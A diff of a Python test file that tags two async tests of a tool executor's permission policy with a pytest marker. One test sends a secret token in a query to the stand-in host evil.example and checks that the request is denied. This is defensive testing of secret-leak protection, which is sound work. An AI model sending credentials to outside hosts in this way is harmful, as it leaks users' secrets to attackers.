@@ -71,6 +71,7 @@ async def house(tmp_path: Path) -> AsyncGenerator[House, None]:
         yield made
 
 
+@pytest.mark.command
 async def test_the_action_says_where_it_acts_and_what_it_sends(house: House) -> None:
     policy = Allow()
     await house.executor.with_policy(policy).execute(ToolCall("1", "ask", {}), house.context())
@@ -83,6 +84,7 @@ async def test_the_action_says_where_it_acts_and_what_it_sends(house: House) -> 
     assert (asked.remote, asked.definition) == (action.remote, action.definition)
 
 
+@pytest.mark.command
 async def test_a_secret_leaves_only_for_the_host_that_it_is_for(house: House) -> None:
     kept = await house.result("ask", url="https://evil.example/", query=f"x{TOKEN}y")
     assert kept.status == "denied"
